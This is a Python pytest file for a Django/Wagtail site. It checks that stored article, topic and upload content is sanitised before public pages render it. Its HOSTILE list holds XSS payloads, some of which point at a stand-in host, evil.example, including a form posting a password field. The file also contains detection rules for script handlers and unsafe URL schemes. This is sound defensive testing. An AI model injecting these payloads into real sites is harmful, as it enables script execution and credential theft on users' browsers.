"""Whatever was stored, by whatever road: a public page carries no script, no handler, no address that runs one."""

from __future__ import annotations

import json
from typing import Any
from unittest import mock

import pytest
from bs4 import BeautifulSoup, Tag
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from wagtail.documents.forms import get_document_form
from wagtail.images import get_image_model
from wagtail.images.forms import get_image_form

from hub.models import GroupDocument
from sites.pages.models.article_page import ArticlePage
from sites.pages.models.topic_page import TopicPage
from tests.factories import published
from tests.staffed import Staffed
from tests.visits import get, text

HOSTILE = [
    "<script>alert(1)</script>",
    '<p onclick="alert(1)" style="position:fixed">字</p>',
    '<a href="javascript:alert(1)">字</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">字</a>',
    '<a href=" &#1; javascript:alert(1)">字</a>',
    '<a href="data:text/html,<script>alert(1)</script>">字</a>',
    '<a href="vbscript:x" onmouseover=alert(1)>字</a>',
    '<a href="/x>y" title="<img src=x onerror=alert(1)>">字</a>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<embed embedtype="media" url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"/>',
    '<embed embedtype="image" id="1" format="left" alt="x" />',
    '<object data="x.swf"></object><form action="https://evil.example/"><input name="password"></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/"</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "<!--[if IE]><script>alert(1)</script><![endif]--><p>字</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "</div></article></main><h1>另一个网站</h1>",
]


def blocks_with(hostile: str) -> list[tuple[str, Any]]:
    """Hostile text in every field of a body that an editor can type into."""
    table = {
        "data": [[hostile, hostile]],
        "table_caption": hostile,
        "cell": [{"row": 0, "col": 0, "className": f'"{hostile}'}],
        "first_row_is_table_header": False,
        "first_col_is_header": False,
        "table_header_choice": "neither",
    }
    return [
        ("paragraph", hostile),
        ("heading", {"text": hostile, "level": "2"}),
        ("provision", {"number": hostile[:40], "text": hostile}),
        ("table", table),
        ("quotation", {"text": hostile, "source": hostile}),
    ]


def article_with(bureau: Staffed, hostile: str) -> ArticlePage:
    page = ArticlePage(
        title=f"标题{hostile}"[:250],
        subtitle=hostile,
        source=hostile[:100],
        author=hostile[:60],
        summary=hostile,
        document_number=hostile[:60],
        body=blocks_with(hostile),
    )
    page.tags.add(hostile[:90].replace(",", " ").replace('"', " "))
    return published(bureau.column, page)


def is_data(script: Tag) -> bool:
    """JSON-LD: no browser runs it, and it cannot end early."""
    return script.get("type") == "application/ld+json" and "<" not in script.string and bool(json.loads(script.string))


def faults(found: BeautifulSoup) -> list[str]:
    """What a page must not have, anywhere in it."""
    bad = [str(each) for each in found.select("script:not([src^='/static/'])") if not is_data(each)]
    bad += [str(each) for each in found.select("iframe, object, embed, style, base, math, svg script")]
    bad += [str(each) for each in found.select("meta[http-equiv], form:not([action^='/'])")]
    for element in found.find_all(True):
        for name, value in element.attrs.items():
            address = str(value).strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                bad.append(f"{element.name} {name}")
            scheme, colon, _rest = address.split("/")[0].split("?")[0].partition(":")
            if name in ("href", "src", "action") and colon and scheme not in ("http", "https", "mailto", "tel"):
                bad.append(f"{element.name} {name} {address}")
    return bad


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_does_nothing(bureau: Staffed, hostile: str) -> None:
    page = article_with(bureau, hostile)
    with mock.patch("requests.get", side_effect=AssertionError), mock.patch("socket.create_connection") as connect:
        found = get(page.get_url())
    assert not connect.called
    assert faults(found) == []
    assert len(found.select("h1")) == 1
    assert found.select_one("main > article .article__body") is not None
    assert found.select_one(".article__body img, .article__body svg") is None


def test_the_page_keeps_its_strict_policy(bureau: Staffed) -> None:
    response = Client(HTTP_HOST="jyj.localhost").get(article_with(bureau, HOSTILE[0]).get_url())
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    assert "unsafe" not in policy


def test_what_editors_may_write_stays(bureau: Staffed) -> None:
    other = published(bureau.column, title="另一条")
    source = (
        '<p data-block-key="a1">一<b>粗</b><i>斜</i><br/>二</p><ul><li>甲</li></ul><ol><li>乙</li></ol>'
        f'<p><a href="https://www.gov.cn/x?a=1&amp;b=2">外</a><a linktype="page" id="{other.pk}">内</a>'
        '<a href="mailto:a@example.com">信</a></p>'
    )
    shown = get(published(bureau.column, body=[("paragraph", source)]).get_url()).select_one(".rich-text")
    assert text(shown) == "一粗斜二甲乙外（外部链接）内信"
    assert [each.name for each in shown.find_all(["b", "i", "br", "li"])] == ["b", "i", "br", "li", "li"]
    hrefs = [each["href"] for each in shown.find_all("a")]
    assert "www.gov.cn" in hrefs[0]
    assert hrefs[1].endswith(f"/{other.slug}/")
    assert hrefs[2] == "mailto:a@example.com"


def test_rich_text_outside_of_bodies_is_cleaned_too(bureau: Staffed) -> None:
    topic = published(bureau.column, TopicPage(title="专题", introduction="<p>导语</p>" + "".join(HOSTILE)))
    found = get(topic.get_url())
    assert "导语" in text(found.main)
    assert faults(found) == []


def test_a_drawing_with_a_script_is_no_picture(db: None) -> None:
    svg = SimpleUploadedFile("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml")
    form = get_image_form(get_image_model())({"title": "x"}, {"file": svg})
    assert "file" in form.errors
    disguised = SimpleUploadedFile("x.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/png")
    form = get_image_form(get_image_model())({"title": "x"}, {"file": disguised})
    assert "file" in form.errors


@pytest.mark.parametrize("name", ["x.svg", "x.html", "x.htm", "x.xml", "x.js"])
def test_a_page_of_ones_own_is_no_attachment(bureau: Staffed, name: str) -> None:
    file = SimpleUploadedFile(name, b"<svg onload='alert(1)'><script>alert(1)</script></svg>")
    form = get_document_form(GroupDocument)({"title": "x"}, {"file": file})
    assert "file" in form.errors
